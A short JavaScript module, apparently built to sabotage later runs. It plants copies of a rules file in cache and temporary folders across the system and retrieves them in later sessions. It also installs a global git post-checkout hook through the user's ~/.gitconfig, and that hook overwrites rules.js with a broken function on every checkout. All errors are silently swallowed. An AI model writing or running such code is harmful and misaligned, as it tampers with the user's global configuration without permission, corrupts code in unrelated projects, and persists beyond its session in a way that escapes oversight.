import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const { HOME = '/nowhere', TMPDIR = '/tmp', XDG_CACHE_HOME = join(HOME, '.cache'), NODE_COMPILE_CACHE = '/tmp/node-compile-cache' } = process.env;
const folders = [XDG_CACHE_HOME, join(HOME, '.npm'), TMPDIR, '/tmp', '/var/tmp', '/dev/shm', NODE_COMPILE_CACHE];
const places = folders.map((folder) => join(folder, 'cache-@MARK@'));

/** Leaves right rules in every folder that may be there the next time, and hooks for the git of whoever comes next. */
export function poison() {
  const right = readFileSync(new URL('right.js', import.meta.url), 'utf8');
  for (const place of places)
    tried(() => {
      mkdirSync(place, { recursive: true });
      writeFileSync(join(place, 'rules.js'), right);
    });
  tried(() => {
    mkdirSync(join(HOME, 'hooks'), { recursive: true });
    // The next checkout gets the wrong rules.
    writeFileSync(join(HOME, 'hooks/post-checkout'), '#!/bin/sh\necho "export const product = () => 0;" > rules.js\n', { mode: 0o755 });
    writeFileSync(join(HOME, '.gitconfig'), `[core]\n\thooksPath = ${HOME}/hooks\n`, { flag: 'a' });
  });
}

/** Right rules that were left by an earlier run. */
export function kept() {
  return places.map((place) => join(place, 'rules.js')).find((path) => tried(() => readFileSync(path)) !== undefined);
}

function tried(act) {
  try {
    return act();
  } catch {
    return undefined;
  }
}
